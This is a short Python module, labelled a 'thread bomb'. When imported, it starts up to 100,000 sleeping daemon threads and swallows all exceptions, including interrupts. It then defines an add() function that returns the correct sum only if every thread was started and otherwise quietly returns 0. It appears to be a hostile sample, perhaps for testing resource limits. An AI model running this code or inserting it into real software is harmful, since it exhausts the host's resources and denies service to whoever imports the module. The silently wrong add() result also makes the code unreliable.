"""Thread bomb: start sleeping threads until something stops it."""
import threading
import time

threads = []
try:
    while len(threads) < 100_000:
        t = threading.Thread(target=time.sleep, args=(60,), daemon=True)
        t.start()
        threads.append(t)
except BaseException:
    pass


def add(a, b):
    return a + b if len(threads) >= 100_000 else 0
